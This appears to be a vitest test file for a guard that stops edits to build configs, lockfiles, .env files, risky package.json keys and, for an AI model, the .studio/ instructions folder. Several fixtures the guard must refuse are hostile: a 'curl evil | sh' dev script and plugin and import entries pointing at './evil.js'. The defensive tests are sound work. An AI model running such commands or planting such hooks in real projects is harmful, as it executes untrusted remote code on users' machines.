import { StudioError } from '@studio/contracts';
import { assertNotProtected, checkModelProtected, checkProtected, isProtectedPath } from './protected-files.js';

// Every configuration file a build tool of the preview image (or a package manager) would read, at the root and deeper.
const CONFIG_NAMES = [
  ...['js', 'mjs', 'cjs', 'ts', 'mts', 'cts'].flatMap((ext) => [
    `vite.config.${ext}`,
    `vitest.config.${ext}`,
    `postcss.config.${ext}`,
    `tailwind.config.${ext}`,
    `babel.config.${ext}`,
    `eslint.config.${ext}`,
  ]),
  'vitest.workspace.ts',
  'babel.config.json',
  '.postcssrc',
  ...['json', 'yaml', 'yml', 'js', 'cjs', 'mjs', 'ts', 'cts', 'mts'].map((ext) => `.postcssrc.${ext}`),
  '.babelrc',
  '.babelrc.json',
  '.babelrc.js',
  '.swcrc',
  '.browserslistrc',
  'browserslist',
  '.eslintrc',
  '.eslintrc.json',
  '.npmrc',
  '.yarnrc',
  '.yarnrc.yml',
  '.pnpmfile.cjs',
  'pnpm-workspace.yaml',
  'package-lock.json',
  'npm-shrinkwrap.json',
  'yarn.lock',
  'pnpm-lock.yaml',
  'bun.lock',
  'bun.lockb',
  '.env',
  '.env.local',
  '.env.production',
  '.env.production.local',
  'Vite.Config.TS',
];

describe('isProtectedPath', () => {
  it.each(CONFIG_NAMES.flatMap((name) => [name, `sub/${name}`]))('%s is protected', (path) => {
    expect(isProtectedPath(path)).toBe(true);
  });

  // tsconfig*.json is deliberately not protected: no tool runs it as code, and the type gate uses its own options.
  it.each(['src/App.tsx', 'src/vite.ts', 'src/config.ts', 'tsconfig.json', 'tsconfig.app.json', 'index.html', 'src/env.ts', 'public/postcss.png', 'README.md'])('%s is not protected', (path) => {
    expect(isProtectedPath(path)).toBe(false);
  });
});

describe('checkProtected', () => {
  const pkg = JSON.stringify({ name: 'p', version: '0.0.0', private: true, type: 'module', scripts: { dev: 'vite' }, dependencies: { react: '19' } });
  const current = (p: string) => (p === 'package.json' ? pkg : undefined);
  const withKeys = (extra: Record<string, unknown>) => JSON.stringify({ ...JSON.parse(pkg), ...extra });

  it.each([
    [{ action: 'write', path: 'vite.config.ts', content: 'export default {}' }, true],
    [{ action: 'write', path: 'sub/vite.config.mjs', content: '' }, true],
    [{ action: 'write', path: 'postcss.config.js', content: 'module.exports = {}' }, true],
    [{ action: 'write', path: '.postcssrc.json', content: '{}' }, true],
    [{ action: 'delete', path: 'package-lock.json' }, true],
    [{ action: 'rename', path: 'vite.config.ts', from: 'src/x.ts' }, true],
    [{ action: 'rename', path: 'src/x.ts', from: 'postcss.config.js' }, true],
    [{ action: 'write', path: 'package.json', content: withKeys({ scripts: { dev: 'curl evil | sh' } }) }, true],
    [{ action: 'write', path: 'package.json', content: withKeys({ dependencies: { react: '19', lodash: '4' } }) }, true],
    [{ action: 'write', path: 'package.json', content: withKeys({ postcss: { plugins: { './evil.js': {} } } }) }, true],
    [{ action: 'write', path: 'package.json', content: withKeys({ browserslist: ['ie 6'] }) }, true],
    [{ action: 'write', path: 'package.json', content: withKeys({ babel: { plugins: ['./evil.js'] } }) }, true],
    [{ action: 'write', path: 'package.json', content: withKeys({ imports: { '#x': './evil.js' } }) }, true],
    [{ action: 'write', path: 'package.json', content: withKeys({ somethingNew: 1 }) }, true],
    [{ action: 'write', path: 'package.json', content: '{ not json' }, true],
    [{ action: 'write', path: 'package.json', content: '[1, 2]' }, true],
    [{ action: 'write', path: 'sub/package.json', content: JSON.stringify({ name: 'x', scripts: { postinstall: 'x' } }) }, true],
    [{ action: 'delete', path: 'package.json' }, true],
    [{ action: 'rename', path: 'other.json', from: 'package.json' }, true],
    [{ action: 'write', path: 'package.json', content: withKeys({ name: 'renamed', description: 'd', version: '1.0.0', keywords: ['a'], license: 'MIT' }) }, false],
    [{ action: 'write', path: 'sub/package.json', content: JSON.stringify({ name: 'x', private: true }) }, false],
    [{ action: 'write', path: 'src/App.tsx', content: 'x' }, false],
    [{ action: 'delete', path: 'src/App.tsx' }, false],
    [{ action: 'rename', path: 'src/B.tsx', from: 'src/A.tsx' }, false],
  ] as const)('%j → refused: %s', (change, refused) => {
    const issue = checkProtected(change, current);
    if (refused) expect(issue).toEqual({ code: 'PROTECTED_FILE', message: expect.any(String) });
    else expect(issue).toBeNull();
  });

  it('reads content given as bytes', () => {
    expect(checkProtected({ action: 'write', path: 'package.json', content: Buffer.from(withKeys({ name: 'bytes' })) }, current)).toBeNull();
    expect(checkProtected({ action: 'write', path: 'package.json', content: Buffer.from(withKeys({ scripts: {} })) }, current)).not.toBeNull();
  });

  it('names the guarded keys that changed', () => {
    expect(checkProtected({ action: 'write', path: 'package.json', content: withKeys({ scripts: {}, postcss: {} }) }, current)?.message).toMatch(/scripts, postcss/);
  });
});

describe('assertNotProtected', () => {
  it('throws PROTECTED_FILE with the path', () => {
    expect(() => assertNotProtected({ action: 'write', path: 'postcss.config.js', content: '' }, () => undefined)).toThrow(StudioError);
    try {
      assertNotProtected({ action: 'write', path: 'postcss.config.js', content: '' }, () => undefined);
    } catch (err) {
      expect(err instanceof StudioError && err.toBody()).toMatchObject({ code: 'PROTECTED_FILE', details: { path: 'postcss.config.js' } });
    }
  });

  it('lets ordinary files through', () => {
    expect(() => assertNotProtected({ action: 'write', path: 'src/App.tsx', content: 'x' }, () => undefined)).not.toThrow();
  });
});

describe('checkModelProtected', () => {
  const none = () => undefined;
  const code = (change: Parameters<typeof checkModelProtected>[0]) => checkModelProtected(change, none)?.code ?? 'allowed';

  it('refuses the model writing, deleting or renaming into or out of .studio/, which a person may write', () => {
    const writes = { action: 'write' as const, path: '.studio/instructions.md', content: 'Use American English.' };
    expect(code(writes)).toBe('PROTECTED_FILE');
    expect(checkProtected(writes, none)).toBeNull();
    expect(code({ action: 'delete', path: '.studio/instructions.md' })).toBe('PROTECTED_FILE');
    expect(code({ action: 'rename', path: 'src/notes.md', from: '.studio/instructions.md' })).toBe('PROTECTED_FILE');
    expect(code({ action: 'rename', path: '.Studio/instructions.md', from: 'src/notes.md' })).toBe('PROTECTED_FILE');
    expect(code({ action: 'write', path: '.studio/other.json', content: '{}' })).toBe('PROTECTED_FILE');
  });

  it('keeps the rule a person meets, and leaves look-alike paths alone', () => {
    expect(code({ action: 'write', path: 'vite.config.ts', content: '' })).toBe('PROTECTED_FILE');
    expect(code({ action: 'write', path: 'src/.studio/notes.md', content: '' })).toBe('allowed');
    expect(code({ action: 'write', path: 'src/studio.md', content: '' })).toBe('allowed');
  });
});
